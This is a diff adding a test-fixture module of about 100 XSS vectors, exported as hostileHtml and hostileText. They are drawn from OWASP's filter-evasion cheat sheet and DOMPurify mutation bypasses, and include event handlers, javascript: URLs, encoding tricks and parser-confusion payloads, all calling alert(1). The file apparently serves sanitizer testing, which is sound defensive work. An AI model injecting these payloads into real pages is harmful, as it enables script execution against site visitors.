@@ -1,0 +1,127 @@
+/*
+ * HTML that calls `alert` on a page that does not keep it from that, after the XSS filter evasion cheat sheet of
+ * OWASP (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and the published
+ * mutations that got past DOMPurify. An address in it is that of a picture there is, or of nothing.
+ */
+
+/** Vectors that leave the text after them as it is. */
+const closed = [
+  // Scripts.
+  '<script>alert(1)</script>',
+  '<ScRiPt >alert(1)</sCrIpT>',
+  '<script src="/nowhere.js" onerror="alert(1)"></script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<img """><script>alert(1)</script>">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script>alert&#40;1)</script></svg>',
+  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
+  '<math><script>alert(1)</script></math>',
+  '</p></div></article><script>alert(1)</script>',
+  // Handlers that run by themselves.
+  '<img src=x onerror=alert(1)>',
+  '<img src=x ONERROR="alert(1)">',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img src=x onerror&#61;alert(1) onerror=alert(1)>',
+  '<img src=x:x onerror=alert(1) //>',
+  '<img src=`x`onerror=alert(1)>',
+  "<img src='x' onerror='&#97;lert(1)'>",
+  '<image src=x onerror=alert(1)>',
+  '<img src="/favicon.svg" onload=alert(1)>',
+  '<img srcset="x" onerror=alert(1)>',
+  '<picture><source srcset="x"><img onerror=alert(1)></picture>',
+  '<svg onload=alert(1)></svg>',
+  '<svg/onload=alert(1)//></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><set onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><image href=x onerror=alert(1)></svg>',
+  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>a</text></a></svg>',
+  '<video src=x onerror=alert(1)></video>',
+  '<video><source onerror=alert(1) src=x></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<details open ontoggle=alert(1)><summary>a</summary></details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)></select>',
+  '<button autofocus onfocus=alert(1)>a</button>',
+  '<p tabindex=1 autofocus onfocus=alert(1)>a</p>',
+  '<x-loom tabindex=1 autofocus onfocus=alert(1)>a</x-loom>',
+  '<marquee onstart=alert(1)>a</marquee>',
+  '<style onload=alert(1)></style>',
+  '<link rel=stylesheet href="/nowhere.css" onerror=alert(1)>',
+  '<object data=x onerror=alert(1)></object>',
+  '<embed src=x onerror=alert(1)>',
+  '<p style="animation: x 1s" onanimationstart=alert(1)>a</p>',
+  // Frames.
+  '<iframe src="javascript:parent.alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
+  '<iframe onload=alert(1)></iframe>',
+  '<iframe src="https://www.youtube-nocookie.com/embed/../../" onload=alert(1)></iframe>',
+  '<object data="javascript:parent.alert(1)"></object>',
+  // Handlers and addresses that wait for the visitor.
+  '<p onclick=alert(1)>a</p>',
+  '<p onmouseover="alert(1)">a</p>',
+  '<p onpointerenter=alert(1)>a</p>',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href=" &#14; javascript:alert(1)">a</a>',
+  '<a href="jav&#x09;ascript:alert(1)">a</a>',
+  '<a href="java\nscript:alert(1)">a</a>',
+  '<a href="&#106;avascript&colon;alert(1)">a</a>',
+  '<a href="javascript://example.com/%0Aalert(1)">a</a>',
+  '<a href="vbscript:alert(1)">a</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
+  '<a href="/" onclick=alert(1)>a</a>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>a</text></a></svg>',
+  '<math href="javascript:alert(1)">a</math>',
+  '<form action="javascript:alert(1)"><button>a</button></form>',
+  '<form><button formaction="javascript:alert(1)">a</button></form>',
+  '<form id=f1></form><button form=f1 formaction="javascript:alert(1)">a</button>',
+  '<input type=image src=x formaction="javascript:alert(1)" onerror=alert(1)>',
+  '<map name=m><area href="javascript:alert(1)" shape=default></map><img src="/favicon.svg" usemap="#m">',
+  // Mutations: harmless to one parser, not to the next.
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
+  '<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></math></style></mglyph></table></mi></math>',
+  '<svg><desc><noscript><style><img title="</style></noscript><img src=x onerror=alert(1)>"></style></noscript></desc></svg>',
+  '<a title="</a><img src=x onerror=alert(1)>" href="/">a</a>',
+  '<p id="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">a</p>',
+  '<template><script>alert(1)</script></template>',
+  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>-->',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  // What older pages fell for.
+  '<div style="background:url(javascript:alert(1))">a</div>',
+  '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<body onload=alert(1) onpageshow=alert(1)>',
+  '<p id="defaultView">a</p><p id="cookie" name="body">b</p><form name="documentElement"></form>',
+];
+
+/** Vectors that swallow whatever follows them. */
+const open = [
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1) ',
+  '<img src=x onerror="alert(1)" title="',
+  '<iframe src="javascript:parent.alert(1)" ',
+  '<textarea></textarea><script>alert(1)</script><textarea>',
+  '<xmp></xmp><img src=x onerror=alert(1)><xmp>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<frameset onload=alert(1)><frame src="javascript:parent.alert(1)"></frameset>',
+  '<a href="javascript:alert(1)">a',
+];
+
+export const hostileHtml = { closed, open };
+
+/** A plain text that would be all of them, where a page took it for markup. */
+export const hostileText = `"'><img src=x onerror=alert(1)></script><script>alert(1)</script>`;
